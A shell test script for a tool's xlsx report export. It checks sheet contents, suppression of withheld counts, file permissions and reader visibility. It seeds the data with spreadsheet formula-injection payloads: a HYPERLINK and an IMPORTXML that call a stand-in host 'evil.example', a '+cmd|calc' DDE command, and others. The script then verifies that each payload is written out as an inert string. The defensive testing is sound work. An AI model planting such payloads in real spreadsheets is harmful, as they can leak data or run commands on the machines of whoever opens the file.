#!/bin/sh
# workbook.sh: `qrel report -o data.xlsx`, the data workbook: unpacked (an xlsx is a zip), its
# sheets hold the consensus levels, findings, recommendations, subgroup tables and agreement;
# hostile text stays a string with one guard, never a formula; withheld counts are not in it;
# a reader sees only what the visibility rule gives them; the path check and temp+rename hold.
. "$(dirname "$0")/lib.sh"

DB="$T/review.db"
sample_db "$DB"
LEAD=$(sql "$DB" "SELECT name FROM person WHERE role = 'lead'")
PRINCIPAL=$(sql "$DB" "SELECT name FROM person WHERE role = 'principal' ORDER BY name LIMIT 1")

# xlsx_dump BOOK DIR: each sheet as DIR/NAME.tsv (cells as the file holds them, strings
# inline or from the shared table); DIR/formulas counts the formula cells of every sheet;
# DIR/NAME.kinds lists the kinds of its string cells (inlineStr, s), one per line.
xlsx_dump() {
	python3 - "$1" "$2" <<'PY'
import os, re, sys, zipfile
import xml.etree.ElementTree as ET
ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
z = zipfile.ZipFile(sys.argv[1]); out = sys.argv[2]; os.makedirs(out, exist_ok=True)
shared = []
if "xl/sharedStrings.xml" in z.namelist():
    shared = ["".join(t.text or "" for t in si.iter("{%s}t" % ns["m"]))
              for si in ET.fromstring(z.read("xl/sharedStrings.xml")).findall("m:si", ns)]
wb = ET.fromstring(z.read("xl/workbook.xml"))
names = [s.get("name") for s in wb.find("m:sheets", ns)]
formulas = 0
for i, name in enumerate(names, 1):
    root = ET.fromstring(z.read("xl/worksheets/sheet%d.xml" % i))
    formulas += len(root.findall(".//m:f", ns))
    kinds = sorted({c.get("t") for c in root.iter("{%s}c" % ns["m"]) if c.get("t") in ("s", "inlineStr")})
    open(os.path.join(out, name + ".kinds"), "w").write("".join(k + "\n" for k in kinds))
    with open(os.path.join(out, name + ".tsv"), "w") as f:
        for row in root.iter("{%s}row" % ns["m"]):
            cells = {}
            for c in row.findall("m:c", ns):
                col = re.match(r"[A-Z]+", c.get("r")).group(0)
                idx = 0
                for ch in col:
                    idx = idx * 26 + ord(ch) - 64
                v = c.find("m:v", ns)
                text = "" if v is None else v.text
                if c.get("t") == "s":
                    text = shared[int(text)]
                elif c.get("t") == "inlineStr":
                    text = "".join(t.text or "" for t in c.iter("{%s}t" % ns["m"]))
                cells[idx] = text.replace("\t", " ").replace("\n", " | ")
            width = max(cells) if cells else 0
            f.write("\t".join(cells.get(k, "") for k in range(1, width + 1)) + "\n")
open(os.path.join(out, "formulas"), "w").write("%d\n" % formulas)
print("|".join(names))
PY
}

# Hostile text, as a reviewer could type it, in a finding and a recommendation.
F=$("$QREL" findings add --db "$DB" --as "$LEAD" --kind growth --cluster 1.2 \
	'=HYPERLINK("http://evil.example/?"&A1,"click")' | sed 's/finding //')
"$QREL" recommendations add --db "$DB" --as "$LEAD" --title '+cmd|calc' --text '@SUM(1+1)' \
	--stakeholders '-2+3' --finding "$F" --priority high >/dev/null

# A note and a rationale that begin as formulas: the note cited in the finding, the
# rationale a consensus level's.
NOTE=$("$QREL" evidence add --db "$DB" --as "$LEAD" --site RHS --source interview --cluster 1.2 \
	'=IMPORTXML("http://evil.example/n")' | sed 's/[^0-9]*\([0-9]*\).*/\1/')
"$QREL" findings cite --db "$DB" --as "$LEAD" "$F" --note "$NOTE" >/dev/null
"$QREL" score --db "$DB" --as "$LEAD" --site RHS --cluster 1.2 --level 2 --kind consensus \
	--rationale '-1+2 rationale' >/dev/null

OUT="$T/out/data.xlsx"
mkdir -p "$T/out" "$T/tmp"
chmod 700 "$T/tmp"
check "report -o data.xlsx writes a workbook" env TMPDIR="$T/tmp" "$QREL" report --db "$DB" --as "$LEAD" -o "$OUT"
check "it is a zip with a workbook in it" python3 -m zipfile -t "$OUT"
check "no temporary file is left beside it" test "$(ls "$T/out")" = data.xlsx
check "nor in TMPDIR (the sheets' row files)" test -z "$(ls -A "$T/tmp")"
check "written 0600" test "$(stat -c %a "$OUT")" = 600
SHEETS=$(xlsx_dump "$OUT" "$T/x")
check "sheets: About Scores Findings Recommendations Subgroups Agreement Tables, then a sheet a table" \
	test "$(printf %s "$SHEETS" | cut -d'|' -f1-7)" = "About|Scores|Findings|Recommendations|Subgroups|Agreement|Tables"
check "no formula cell anywhere" test "$(cat "$T/x/formulas")" = 0
check "the hostile finding is a string with one guard" \
	grep -qF "	'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")	" "$T/x/Findings.tsv"
check "the recommendation's title, text and stakeholders too" \
	grep -q "	'+cmd|calc	'@SUM(1+1)	'-2+3	$F\$" "$T/x/Recommendations.tsv"
check "the note is in the finding's key evidence, quoted, not a formula" \
	grep -qF ': "=IMPORTXML("http://evil.example/n")"' "$T/x/Findings.tsv"
check "a rationale that begins with - is a string with the guard" grep -qF "	'-1+2 rationale" "$T/x/Scores.tsv"
check "never two guards" sh -c "! grep -qF \"''\" '$T/x/Findings.tsv' '$T/x/Recommendations.tsv'"
check "the status is on the About sheet" grep -q "^Status	DRAFT$" "$T/x/About.tsv"

# The sheets that grow with the review are written a row at a time (libxlsxwriter's
# constant_memory mode: each row to a temporary file as the next starts, strings inline);
# the tables' sheets open no file each, so a review with more tables than open files works.
for s in About Scores Findings Recommendations Subgroups Agreement Tables; do
	check "$s is written row by row (inline strings only)" test "$(cat "$T/x/$s.kinds")" = inlineStr
done
check "with 64 open files at most, every table's sheet is written" \
	sh -c "ulimit -n 64 && '$QREL' report --db '$DB' --as '$LEAD' --all-years -o '$T/out/many.xlsx'"
check "that is $(python3 -c "import sys, zipfile; print(zipfile.ZipFile(sys.argv[1]).read('xl/workbook.xml').count(b'<sheet '))" \
	"$T/out/many.xlsx") sheets" python3 -m zipfile -t "$T/out/many.xlsx"

# Every group of the Subgroups sheet is the CSV report's, value for value (rates as
# percentages to 0.1, ratios to 0.01, as the CSV writes them).
"$QREL" report --db "$DB" --as "$LEAD" --format csv -o "$T/out/data.csv"
check "the Subgroups sheet holds the CSV report's groups and values, in its order" \
	python3 - "$T/out/data.csv" "$T/x/Subgroups.tsv" <<'PY'
import csv, sys
want = {}	# (site, cluster, year, metric, dimension, group) -> field -> value, in the CSV's order
for r in csv.reader(open(sys.argv[1], encoding="utf-8-sig")):
    if r[0] == "subgroup" and r[8] != "finding":
        want.setdefault(tuple(r[1:8]), {})[r[8]] = r[9]
def cell(v, fmt, scale=1):
    return v if v in ("*", "") else fmt % (float(v) * scale)
got = []
for c in [l.rstrip("\n").split("\t") for l in open(sys.argv[2])][1:]:
    c += [""] * (12 - len(c))
    got.append(((c[0], c[1], c[2], c[5]), {"enrolled": cell(c[6], "%d"), "count": cell(c[7], "%d"),
        "rate": cell(c[8], "%.1f%%", 100), "others_rate": cell(c[9], "%.1f%%", 100),
        "risk_ratio": cell(c[10], "%.4f"), "flagged": "true" if c[11] == "yes" else "false"}))
ok = len(want) == len(got) > 0
for (k, fields), (g, values) in zip(want.items(), got):
    ok = ok and (k[0], k[3], k[4], k[6]) == g and all(values[f] == v for f, v in fields.items())
sys.exit(0 if ok else 1)
PY

# Scores: consensus levels only, one row per site and cluster, as stored.
EXPECT=$(sql "$DB" "SELECT s.code || '|' || c.code || '|' || CASE WHEN sc.insufficient THEN 'NE' ELSE sc.level END
	FROM score sc JOIN site s ON s.id = sc.site_id JOIN cluster c ON c.id = sc.cluster_id
	WHERE sc.kind = 'consensus' ORDER BY 1")
GOT=$(awk -F'\t' 'NR > 1 && $6 != "" { print $1 "|" $4 "|" $6 }' "$T/x/Scores.tsv" | sort)
check "Scores holds every consensus level and nothing else" test "$EXPECT" = "$GOT"
check "with its level name" grep -q "	[1-4]	\(Beginning\|Developing\|Proficient\|Exemplary\|[A-Z][a-z]*\)" "$T/x/Scores.tsv"
check "no team or self column" sh -c "! head -1 '$T/x/Scores.tsv' | grep -qi 'team\|self\|median'"

# One sheet per subgroup table: every site's newest year, every metric and dimension,
# flagged or not; names Excel takes (31 characters at most, unique, none of []:*?/\).
TABLES=$(sql "$DB" "SELECT count(*) FROM (SELECT DISTINCT r.site_id, r.year, r.metric_id, r.dimension FROM subgroup_row r
	WHERE r.year = (SELECT max(x.year) FROM subgroup_row x WHERE x.site_id = r.site_id))")
python3 - "$T/x/names" "$SHEETS" <<'PY'
import sys
names = sys.argv[2].split("|")[7:]
open(sys.argv[1], "w").write("%d %d %d\n" % (len(names), len({n.lower() for n in names}),
	sum(1 for n in names if len(n) > 31 or any(c in n for c in "[]:*?/\\"))))
PY
check "a sheet for each of the $TABLES tables" test "$(cat "$T/x/names")" = "$TABLES $TABLES 0"
check "a table with no flag has its sheet" test -f "$T/x/DO 2024-25 grad race.tsv"
check "each table sheet holds its groups and all students" \
	sh -c "tail -n 1 '$T/x/DO 2024-25 grad race.tsv' | grep -q '^DO	2024-25	grad	.*	All students	'"
: >"$T/x/tables.tsv"
for f in "$T"/x/*" "*.tsv; do tail -n +2 "$f" >>"$T/x/tables.tsv"; done
check "the Tables sheet holds every table sheet's rows, in their order" sh -c "tail -n +2 '$T/x/Tables.tsv' >'$T/a';
	printf '%s\n' '$SHEETS' | tr '|' '\n' | tail -n +8 | while IFS= read -r n; do tail -n +2 \"$T/x/\$n.tsv\"; done >'$T/b'; cmp -s '$T/a' '$T/b'"
check "About counts them: $TABLES, each on a sheet of its own" \
	grep -q "^Tables	$TABLES subgroup tables, all on the Tables sheet and each on a sheet of its own.\$" "$T/x/About.tsv"
check "the table sheets hold every row the Subgroups sheet does" \
	sh -c "tail -n +2 '$T/x/Subgroups.tsv' | sort -u >'$T/a'; sort -u '$T/x/tables.tsv' >'$T/b'; comm -23 '$T/a' '$T/b' | wc -l | grep -qx 0"

# More than 1,000 tables (a district of many schools has hundreds of thousands): every
# one on the Tables sheet, a sheet each for the first 1,000 only.
python3 - >"$T/more.csv" <<'PY'
print("site,year,metric,dimension,group,enrolled,count")
for s in ("RHS", "EHS", "MMS", "OES", "HMS", "WES"):
    for y in range(2005, 2015):
        for d in range(15):
            print("%s,%d-%02d,oss,extra%d,A,100,20\n%s,%d-%02d,oss,extra%d,B,120,25" % (s, y, (y + 1) % 100, d, s, y, (y + 1) % 100, d))
PY
cp "$DB" "$T/big.db"
"$QREL" import subgroups --db "$T/big.db" --as "$LEAD" "$T/more.csv" >/dev/null
BIG=$(sql "$T/big.db" "SELECT count(*) FROM (SELECT DISTINCT site_id, year, metric_id, dimension FROM subgroup_row)")
check "a review of $BIG tables: the workbook is written" "$QREL" report --db "$T/big.db" --as "$LEAD" --all-years -o "$T/out/big.xlsx"
BIGSHEETS=$(xlsx_dump "$T/out/big.xlsx" "$T/big")
check "with 7 sheets and 1,000 of one table each" test "$(printf '%s\n' "$BIGSHEETS" | tr '|' '\n' | wc -l)" = 1007
check "every table's rows on its Tables sheet (2 groups and all students each)" \
	test "$(tail -n +2 "$T/big/Tables.tsv" | grep -c '	All students	')" = "$BIG"
check "About says so" grep -q "^Tables	$BIG subgroup tables, all on the Tables sheet; the first 1000 (in its order) also have a sheet each.\$" "$T/big/About.tsv"

# Sites whose codes begin as the long sheets' names: their tables' sheets keep their own names.
cp "$DB" "$T/names.db"
printf 'code,name,kind\nTABLES,Tables School,school\nSubgroups,Subgroups School,school\n' >"$T/sites.csv"
printf 'site,year,metric,dimension,group,enrolled,count\nTABLES,2024-25,oss,race,A,100,20\nTABLES,2024-25,oss,race,B,100,20\nSubgroups,2024-25,oss,race,A,100,20\nSubgroups,2024-25,oss,race,B,100,20\n' >"$T/g.csv"
"$QREL" import sites --db "$T/names.db" --as "$LEAD" "$T/sites.csv" >/dev/null
"$QREL" import subgroups --db "$T/names.db" --as "$LEAD" "$T/g.csv" >/dev/null
check "sites TABLES and Subgroups: the workbook is written (in time)" \
	timeout 120 "$QREL" report --db "$T/names.db" --as "$LEAD" -o "$T/out/names.xlsx"
check "with their tables' sheets under their own names" sh -c "python3 -m zipfile -e '$T/out/names.xlsx' '$T/names' &&
	grep -q 'name=\"TABLES 2024-25 oss race\"' '$T/names/xl/workbook.xml' &&
	grep -q 'name=\"Subgroups 2024-25 oss race\"' '$T/names/xl/workbook.xml'"

# Subgroups and the table sheets: every withheld count is "*", and its raw count is nowhere in its row.
WITHHELD=$(awk -F'\t' 'NR > 1 && $8 == "*"' "$T/x/Subgroups.tsv" | wc -l)
check "some counts are withheld in the sample's tables" test "$WITHHELD" -gt 0
LEAKS=0
cat "$T/x/Subgroups.tsv" "$T/x/tables.tsv" >"$T/x/every.tsv"
awk -F'\t' 'NR > 1 && $8 == "*" && $6 != "All students" { print $1 "\t" $2 "\t" $3 "\t" $6 }' "$T/x/every.tsv" | sort -u >"$T/hidden"
while IFS='	' read -r site year metric grp; do
	raw=$(sql "$DB" "SELECT r.count FROM subgroup_row r JOIN site s ON s.id = r.site_id JOIN metric m ON m.id = r.metric_id
		WHERE s.code = '$site' AND r.year = '$year' AND m.code = '$metric' AND r.grp = '$(printf %s "$grp" | sed "s/'/''/g")'")
	[ -n "$raw" ] || { LEAKS=$((LEAKS + 1)); continue; }
	for n in $raw; do
		awk -F'\t' -v s="$site" -v y="$year" -v m="$metric" -v g="$grp" -v n="$n" \
			'$1 == s && $2 == y && $3 == m && $6 == g { for (i = 8; i <= NF; i++) if ($i == n) bad = 1 } END { exit !bad }' \
			"$T/x/every.tsv" && LEAKS=$((LEAKS + 1))
	done
done <"$T/hidden"
check "no withheld count is in the workbook (checked $WITHHELD rows)" test "$LEAKS" = 0
MIN=$(awk -F'\t' 'NR > 1 && $8 != "*" && $8 + 0 > 0 && $8 + 0 < 10' "$T/x/every.tsv" | wc -l)
check "no shown count from 1 to min_display - 1" test "$MIN" = 0
check "agreement for the whole review and per domain" grep -q "^all	All domains	" "$T/x/Agreement.tsv"

# Visibility: a reader outside the team gets no finding, recommendation or level.
check "a non-member's workbook" "$QREL" report --db "$DB" --as nobody -o "$T/out/nobody.xlsx"
xlsx_dump "$T/out/nobody.xlsx" "$T/n" >/dev/null
check "holds no consensus level" test "$(awk -F'\t' 'NR > 1 && $6 != ""' "$T/x/../n/Scores.tsv" | wc -l)" = 0
check "no finding" test "$(wc -l <"$T/n/Findings.tsv")" = 1
check "no recommendation" test "$(wc -l <"$T/n/Recommendations.tsv")" = 1
check "a principal before release: no written finding" sh -c "'$QREL' report --db '$DB' --as '$PRINCIPAL' -o '$T/out/p.xlsx' &&
	python3 -m zipfile -e '$T/out/p.xlsx' '$T/p' && ! grep -rq 'evil.example' '$T/p'"
check "(the lead's holds it)" sh -c "python3 -m zipfile -e '$OUT' '$T/l' && grep -rq 'evil.example' '$T/l'"

# Refusals: standard output, the database itself, and a failure leaves the old file.
check "xlsx to standard output is refused" sh -c "! '$QREL' report --db '$DB' --as '$LEAD' --format xlsx >/dev/null 2>&1"
check "the database is never the output" sh -c "! '$QREL' report --db '$DB' --as '$LEAD' -o '$DB' --format xlsx 2>/dev/null"
check "and is still a database" test "$(sql "$DB" "SELECT count(*) FROM finding WHERE id = $F")" = 1
check "--format xlsx with any name" "$QREL" report --db "$DB" --as "$LEAD" --format xlsx -o "$T/out/data.bin"
check "is a workbook" python3 -m zipfile -t "$T/out/data.bin"

finish
